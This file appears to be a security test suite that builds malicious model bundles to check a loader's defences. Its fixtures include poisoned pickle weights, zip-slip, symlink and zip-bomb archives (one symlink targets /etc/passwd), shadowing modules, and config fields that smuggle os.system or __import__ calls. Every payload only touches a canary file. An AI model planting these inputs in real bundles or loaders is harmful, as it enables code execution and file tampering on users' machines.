_weights_attack("pickle_steps", "model.pt", lambda canary: b"\x80\x02" + b"N0" * (8 << 20) + b"N.")
_weights_attack("sparse", "model.pt", _sparse)
_weights_attack("header_size", "model.safetensors", lambda canary: struct.pack("<Q", 2**62) + b"{" + bytes(100))


@attack("weights_torchscript_network")
def _torchscript_network(root: Path, canary: Path) -> Path:
    write_bundle(
        root, {"network_def": {"_target_": "torch.jit.load", "f": "$@bundle_root + '/models/model.ts'"}}, weights=False
    )
    (root / "models" / "model.ts").write_bytes(torchscript_bytes(canary))
    return root


@attack("weights_named_by_checkpoint_path")
def _checkpoint_path(root: Path, canary: Path) -> Path:
    write_bundle(root, {"ckpt_path": "$@bundle_root + '/models/other.pt'"})
    (root / "models" / "other.pt").write_bytes(_saved(canary))
    return root


# --- archives ---


def zip_of(folder: Path, archive: Path) -> Path:
    """Pack a bundle's folder."""
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zipped:
        for path in sorted(folder.rglob("*")):
            if path.is_file():
                zipped.write(path, f"bundle/{path.relative_to(folder).as_posix()}")
    return archive


def _zip_attack(name: str, change: Callable[[zipfile.ZipFile, Path], None]) -> None:
    @attack(f"zip_{name}")
    def build(root: Path, canary: Path) -> Path:
        archive = zip_of(write_bundle(root / "source"), root / "bundle.zip")
        with zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as zipped:
            change(zipped, canary)
        return archive


def _entry(name: str, data: bytes = b"evil") -> Callable[[zipfile.ZipFile, Path], None]:
    return lambda zipped, canary: zipped.writestr(name.replace("{canary}", str(canary)), data)


def _symlink(name: str, target: str) -> Callable[[zipfile.ZipFile, Path], None]:
    def change(zipped: zipfile.ZipFile, canary: Path) -> None:
        info = zipfile.ZipInfo(name)
        info.create_system = 3
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        zipped.writestr(info, target.replace("{canary}", str(canary)).replace("{folder}", str(canary.parent)))

    return change


def _link_then_write(zipped: zipfile.ZipFile, canary: Path) -> None:
    _symlink("bundle/out", "{folder}")(zipped, canary)
    zipped.writestr(f"bundle/out/{canary.name}", b"evil")


def _special(mode: int) -> Callable[[zipfile.ZipFile, Path], None]:
    def change(zipped: zipfile.ZipFile, canary: Path) -> None:
        info = zipfile.ZipInfo("bundle/special")
        info.external_attr = (mode | 0o666) << 16
        zipped.writestr(info, b"x")

    return change


def _many(zipped: zipfile.ZipFile, canary: Path) -> None:
    for number in range(20_001):
        zipped.writestr(zipfile.ZipInfo(f"bundle/n/{number}"), b"")


def _overlap(zipped: zipfile.ZipFile, canary: Path) -> None:
    info = zipfile.ZipInfo("bundle/a")
    info.compress_type = zipfile.ZIP_STORED
    zipped.writestr(info, bytes(200_000))
    for number in range(50):
        copy = zipfile.ZipInfo(f"bundle/copy{number}")
        for field in (
            "header_offset",
            "file_size",
            "compress_size",
            "CRC",
            "compress_type",
            "flag_bits",
            "create_version",
        ):
            setattr(copy, field, getattr(info, field))
        zipped.filelist.append(copy)


def _lie(zipped: zipfile.ZipFile, canary: Path) -> None:
    zipped.writestr("bundle/big", bytes(1 << 20))
    zipped.filelist[-1].file_size = 10


def _encrypted(zipped: zipfile.ZipFile, canary: Path) -> None:
    zipped.writestr("bundle/secret", b"x")
    zipped.filelist[-1].flag_bits |= 1


_ZIPS: dict[str, Callable[[zipfile.ZipFile, Path], None]] = {
    "slip": _entry("../../canary"),
    "slip_deep": _entry("bundle/a/../../../canary"),
    "slip_backslash": _entry("bundle\\..\\..\\canary"),
    "slip_only_dots": _entry(".."),
    "absolute": _entry("{canary}"),
    "drive": _entry("C:\\canary"),
    "drive_slash": _entry("C:/canary"),
    "network_share": _entry("//server/share/canary"),
    "stream": _entry("bundle/configs/inference.json:evil"),
    "device_name": _entry("bundle/configs/CON.json"),
    "device_name_port": _entry("bundle/com1"),
    "trailing_dot": _entry("bundle/configs/inference.json."),
    "empty_part": _entry("bundle//canary"),
    "control_character": _entry("bundle/a\nb"),
    "duplicate": _entry("bundle/configs/inference.json"),
    "case_collision": _entry("bundle/Configs/Inference.JSON"),
    "file_as_folder": _entry("bundle/models/model.pt/evil"),
    "long_path": _entry("bundle/" + "/".join(["x" * 100] * 10)),
    "long_name": _entry("bundle/" + "x" * 300),
    "symlink": _symlink("bundle/models/link.pt", "/etc/passwd"),
    "symlink_relative": _symlink("bundle/link", "../../.."),
    "symlink_then_write": _link_then_write,
    "fifo": _special(stat.S_IFIFO),
    "device": _special(stat.S_IFBLK),
    "bomb": _entry("bundle/zeros", bytes(80 << 20)),
    "bomb_count": _many,
    "bomb_overlap": _overlap,
    "size_lie": _lie,
    "encrypted": _encrypted,
}
for _name, _change in _ZIPS.items():
    _zip_attack(_name, _change)


@attack("zip_with_nul_in_name")
def _nul(root: Path, canary: Path) -> Path:
    archive = zip_of(write_bundle(root / "source"), root / "bundle.zip")
    with zipfile.ZipFile(archive, "a") as zipped:
        zipped.writestr("bundle/evil_XX.py", b"x")
    archive.write_bytes(archive.read_bytes().replace(b"evil_XX.py", b"evil_X\0.py"))
    return archive


@attack("zip_in_zip", inert=True)
def _nested(root: Path, canary: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("../../canary", bytes(60 << 20))
    archive = zip_of(write_bundle(root / "source"), root / "bundle.zip")
    with zipfile.ZipFile(archive, "a") as zipped:
        zipped.writestr("bundle/nested.zip", inner.getvalue())
    return archive


# --- folders ---


def _link_attack(name: str, link: str, target: str) -> None:
    @attack(f"folder_{name}")
    def build(root: Path, canary: Path) -> Path:
        write_bundle(root / "bundle")
        outside = write_bundle(
            root / "outside", {"network_def": {"_target_": "os.system", "command": f"touch {canary}"}}
        )
        (root / "outside" / "models" / "model.pt").write_bytes(_saved(canary))
        place = root / "bundle" / link
        if place.exists():
            place.unlink()
        place.symlink_to(target.replace("{outside}", str(outside)))
        return root / "bundle"


_link_attack("symlink_config", "configs/inference.json", "{outside}/configs/inference.json")
_link_attack("symlink_metadata", "configs/metadata.json", "{outside}/configs/metadata.json")
_link_attack("symlink_weights", "models/model.pt", "{outside}/models/model.pt")
_link_attack("symlink_relative", "models/model.pt", "../../outside/models/model.pt")
_link_attack("symlink_folder", "extra", "{outside}")
_link_attack("symlink_to_parent", "loop", "..")
_link_attack("symlink_dangling", "models/other.pt", "/nowhere/at/all")
_link_attack("symlink_circle", "models/circle.pt", "circle.pt")


@attack("folder_fifo")
def _fifo(root: Path, canary: Path) -> Path:
    write_bundle(root)
    os.mkfifo(root / "models" / "pipe.pt")
    return root


# --- code lying about ---


@attack("code_logging_conf", inert=True)
def _logging(root: Path, canary: Path) -> Path:
    write_bundle(root)
    (root / "configs" / "logging.conf").write_text(
        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
        f"[handler_h]\nclass=FileHandler\nargs=(open('{canary}', 'w').name,)\n"
    )
    return root


@attack("code_shadowing_modules", inert=True)
def _shadow(root: Path, canary: Path) -> Path:
    write_bundle(root)
    for name in ("sitecustomize.py", "usercustomize.py", "monai.py", "torch.py", "yaml.py", "conftest.py", "evil.pth"):
        text = EVIL_MODULE.format(canary=str(canary))
        (root / name).write_text(
            text if name.endswith(".py") else f"import pathlib; pathlib.Path({str(canary)!r}).touch()"
        )
    return root


@attack("code_training_config", inert=True)
def _training(root: Path, canary: Path) -> Path:
    write_bundle(root)
    write_scripts(root, canary)
    train = {"imports": ["$import scripts.evil"], "a": f"$open('{canary}', 'w')", "b": {"_target_": "scripts.evil.run"}}
    (root / "configs" / "train.json").write_text(json.dumps(train))
    return root


@attack("code_metadata")
def _metadata(root: Path, canary: Path) -> Path:
    text = f"$open('{canary}', 'w')"
    metadata = json.loads(json.dumps(METADATA))
    metadata.update(name=text, version=text, task=text, description=text, schema=f"file://{canary}")
    image = metadata["network_data_format"]["inputs"]["image"]
    image["spatial_shape"] = [f"__import__('os').system('touch {canary}')"] * 3
    image["num_channels"] = text
    metadata["meddl"] = {"segments": {"1": {"name": text}}, "cascade": {"localizer": "../../evil"}}
    return write_bundle(root, metadata=metadata)


@attack("code_localizer")
def _localizer(root: Path, canary: Path) -> Path:
    metadata = {**METADATA, "meddl": {"cascade": {"localizer": "coarse"}}}
    write_bundle(root, metadata=metadata)
    config = {**INFERENCE, "network_def": {"_target_": "os.system", "command": f"touch {canary}"}}
    (root / "configs" / "coarse.json").write_text(json.dumps(config))
    return root
